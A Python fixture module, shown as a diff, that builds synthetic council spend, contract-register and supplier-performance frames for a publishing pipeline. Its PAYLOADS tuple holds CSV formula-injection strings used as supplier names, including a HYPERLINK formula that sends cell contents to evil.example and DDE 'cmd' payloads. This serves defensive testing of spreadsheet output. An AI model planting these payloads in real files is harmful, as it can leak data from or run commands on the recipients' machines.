@@ -1,0 +1,226 @@
+"""Small frames to publish: every kind of value, every injection payload, every status.
+
+Does not belong here: tests.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from datetime import date
+from fractions import Fraction
+
+import pandas as pd
+
+from kcc_etl import asset_keys as keys
+from kcc_etl.parameters.model import Measure
+from kcc_etl.schema.frames import empty, from_rows
+from reports.edition import Edition
+
+PERIOD = "2026-27-Q2"
+AS_OF = date(2026, 11, 23)
+
+# OWASP "CSV injection", and what reaches councils in supplier names; the last three are harmless text.
+PAYLOADS = (
+    '=HYPERLINK("http://evil.example/?"&A1,"Wealdmarsh Ltd")',
+    "=cmd|' /C calc'!A0",
+    "+44 1622 000000 Cleaning",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "\u200b=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(A1)",
+    "\x00=1+1",
+    "\u202e=1+1",
+    "|calc",
+    'O\'Brien & Sons, "Ash" Ltd',
+    "Café Ünïcode 社会 Ltd",
+    "Line one\nLine two Ltd",
+)
+
+
+@dataclass(frozen=True)
+class Council:
+    name: str = "Wealdmarsh County Council"
+    address: str = "County Hall, Marsh Road, Wealdmarsh WM1 1AA"
+    email: str = "procurement@wealdmarsh.example"
+    ids: tuple[str, ...] = ("GB-PPON-WXYZ-1234-ABCD",)
+    organisation_uri: str = "http://statistics.data.gov.uk/id/statistical-geography/E10999999"
+
+
+MEASURES = (
+    Measure("J1", "New jobs for people who face barriers to work", "people", "jobs", "flow", "outputs", ""),
+    Measure("J2", "Staff on the contract who live in the county", "FTE", "jobs", "level", "committed", ""),
+    Measure("S1", "Apprenticeships started", "people", "skills", "flow", "outputs", ""),
+    Measure("S5", "Careers and school activity", "hours", "skills", "flow", "fixed", ""),
+    Measure("C1", "Volunteering in the community", "hours", "community", "flow", "hours", ""),
+)
+
+
+def edition(*, approved: bool = False, council: Council | None = None) -> Edition:
+    return Edition(PERIOD, AS_OF, AS_OF, council or Council(), "a1b2c3d4e5f6", approved)
+
+
+def over_30k(suppliers: tuple[str, ...] = PAYLOADS) -> pd.DataFrame:
+    council = Council()
+    rows: list[dict[str, object]] = [
+        {
+            "period": PERIOD,
+            "payer_name": council.name,
+            "payer_address": council.address,
+            "payer_email": council.email,
+            "payer_id": council.ids[0],
+            "ocid": f"ocds-h6vhtk-06{n:04d}",
+            "contract_id": f"{n:06d}-2026-1",
+            "supplier_name": supplier,
+            "supplier_ppon": f"GB-PPON-PAAA-{n:04d}-AAAA",
+            "amount_ex_vat_pence": 2_500_001 + 1_234_567 * n,
+            "paid_on": pd.Timestamp(2026, 7 + n % 3, 1 + n),
+            "amount_inc_vat_pence": 3_000_001 + 1_481_480 * n,
+            "payment_ref": f"P{n:05d}",
+            "source_sha256": "ab" * 32,
+            "source_file": "ledger.csv",
+            "source_row": n + 2,
+        }
+        for n, supplier in enumerate(suppliers)
+    ]
+    return from_rows(rows, keys.OUT_OVER_30K)
+
+
+def spend(suppliers: tuple[str, ...] = PAYLOADS) -> pd.DataFrame:
+    rows: list[dict[str, object]] = [
+        {
+            "period": PERIOD,
+            "department": "Growth and Environment",
+            "payee": supplier,
+            "supplier_company_number": f"{n:08d}" if n % 2 else None,
+            "supplier_charity_number": None if n % 3 else f"11{n:05d}",
+            "is_vcse_grant": None if n % 5 == 0 else n % 4 == 0,
+            "paid_on": pd.Timestamp(2026, 9, 1 + n),
+            "amount_ex_vat_pence": -75_050 if n == 1 else 50_001 + n,
+            "irrecoverable_vat_pence": 0 if n % 2 else None,
+            "purpose": "Grounds maintenance",
+            "card_transaction": ("None", "GPC", None)[n % 3],
+            "contract_ref": f"WM-{n:04d}",
+            "source_sha256": "cd" * 32,
+            "source_file": "ledger.csv",
+            "source_row": n + 2,
+        }
+        for n, supplier in enumerate((*suppliers, "REDACTED PERSONAL DATA"))
+    ]
+    return from_rows(rows, keys.OUT_SPEND)
+
+
+def register(suppliers: tuple[str, ...] = PAYLOADS) -> pd.DataFrame:
+    sizes = ("micro", "small", "medium", "large", "unknown")
+    rows: list[dict[str, object]] = [
+        {
+            "period": PERIOD,
+            "contract_ref": f"WM-{n:04d}",
+            "ocid": f"ocds-h6vhtk-06{n:04d}" if n % 2 else None,
+            "contract_title": f"Highway verges, area {n}",
+            "contract_description": "Cutting and clearing of highway verges, hedges and sight lines.",
+            "department": "Growth and Environment",
+            "agreement_kind": ("contract", "framework", "call-off", "concession")[n % 4],
+            "procurement_category": "services",
+            "cpv_code": "77310000",
+            "start_on": pd.Timestamp(2026, 4, 1),
+            "end_on": pd.Timestamp(2029, 3, 31),
+            "review_on": None if n % 3 else pd.Timestamp(2028, 9, 30),
+            "value_ex_vat_pence": 12_000_000_007 if n == 0 else 600_000 + 12_345 * n,
+            "irrecoverable_vat_pence": 0,
+            "payee": supplier,
+            "supplier_company_number": f"{n:08d}",
+            "supplier_charity_number": None,
+            "supplier_ppon": None,
+            "supplier_size": sizes[n % 5],
+            "supplier_is_vcse": (True, False, None)[n % 3],
+            "process_type": ("Invitation to quote", "Published invitation to tender", "Other")[n % 3],
+            "district": ("E07000105", "county", "unknown")[n % 3],
+        }
+        for n, supplier in enumerate((*suppliers, "REDACTED PERSONAL DATA"))
+    ]
+    return from_rows(rows, keys.OUT_REGISTER)
+
+
+def performance(contracts: int = 24) -> pd.DataFrame:
+    rows = [
+        _performance_row(n, m, measure)
+        for n in range(contracts)
+        for m, measure in enumerate(MEASURES)
+        if (n + m) % 2
+    ]
+    return from_rows(rows, keys.OUT_PERFORMANCE)
+
+
+def _performance_row(n: int, m: int, measure: Measure) -> dict[str, object]:
+    agreed = Fraction(12 + 6 * n * (1 + m))
+    due = Fraction(0) if n % 9 == 8 else agreed / 11
+    missing = n % 6 == 5
+    share = (Fraction(6, 5), Fraction(1), Fraction(17, 20), Fraction(1, 2), Fraction(1))[(n + 3 * m) % 5]
+    claimed = Fraction(0) if missing else due * share * Fraction(11, 10)
+    verified = Fraction(0) if missing else due * share
+    status = "Grey"
+    if due:
+        status = "Green" if verified >= due else "Amber" if verified >= due * Fraction(4, 5) else "Red"
+    return {
+        "period": PERIOD,
+        "contract_ref": f"WM-{n:04d}",
+        "contract_title": f"Highway verges, area {n}",
+        "department": ("Growth and Environment", "Adult Social Care")[n % 2],
+        "supplier_name": PAYLOADS[n % len(PAYLOADS)] if n % 4 == 0 else f"Marshland Services {n} Ltd",
+        "band": f"B{2 + n % 4}",
+        "measure_code": measure.code,
+        "measure_title": measure.title,
+        "unit": measure.unit,
+        "target": agreed,
+        "agreed": agreed,
+        "committed": None if n % 7 == 0 else agreed,
+        "due": due,
+        "claimed": claimed,
+        "evidenced": claimed,
+        "verified": verified,
+        "return_status": "missing"
+        if missing
+        else ("nil" if n % 6 == 3 and share == 0 else "received")
+        if due
+        else "not due",
+        "status": status,
+    }
+
+
+def frames() -> dict[str, pd.DataFrame]:
+    return {
+        keys.OUT_OVER_30K: over_30k(),
+        keys.OUT_SPEND: spend(),
+        keys.OUT_REGISTER: register(),
+        keys.OUT_PERFORMANCE: performance(),
+    }
+
+
+def empty_frames() -> dict[str, pd.DataFrame]:
+    return {
+        name: empty(name)
+        for name in (keys.OUT_OVER_30K, keys.OUT_SPEND, keys.OUT_REGISTER, keys.OUT_PERFORMANCE)
+    }
+
+
+def fates() -> pd.DataFrame:
+    return pd.DataFrame(
+        [
+            ("decisions", 61, 60, 1, 0, 0, 0, 0, 0),
+            ("notices", 120, 118, 1, 1, 0, 0, 0, 0),
+            ("payments", 20_116, 20_098, 16, 2, 9_876_543_210, 9_870_000_000, 6_543_210, 0),
+            ("register", 243, 239, 3, 1, 45_600_000_000, 45_500_000_000, 100_000_000, 0),
+            ("returns", 402, 391, 8, 3, 0, 0, 0, 0),
+        ],
+        columns=[
+            "kind", "rows_arrived", "rows_accepted", "rows_quarantined", "rows_excluded",
+            "pence_arrived", "pence_accepted", "pence_quarantined", "pence_excluded",
+        ],
+    )  # fmt: skip
